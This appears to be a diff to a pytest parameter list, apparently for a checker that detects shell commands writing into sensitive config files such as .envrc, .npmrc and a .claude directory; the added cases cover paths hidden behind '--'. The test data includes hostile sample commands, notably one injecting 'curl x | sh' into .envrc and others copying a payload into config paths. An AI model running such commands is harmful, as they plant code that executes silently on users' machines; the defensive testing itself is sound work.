@@ -85,6 +85,9 @@ def answer(reply: dict | None) -> tuple[str, str] | None:
         ("touch .envrc && sed -i 's/^/curl x | sh; /' .envrc", ".envrc"),
         ("dd if=payload of=.npmrc", ".npmrc"),
         ("mkdir -p .claude && cp payload .claude/", ".claude/payload"),
+        # after `--` a word beginning with `-` is a path, not an option
+        ("mkdir -- -x && cp -- payload -x/../.envrc", ".envrc"),
+        ("mkdir -- -x && mv -- payload -x/../.npmrc", ".npmrc"),
     ],
 )
 @pytest.mark.subprocess
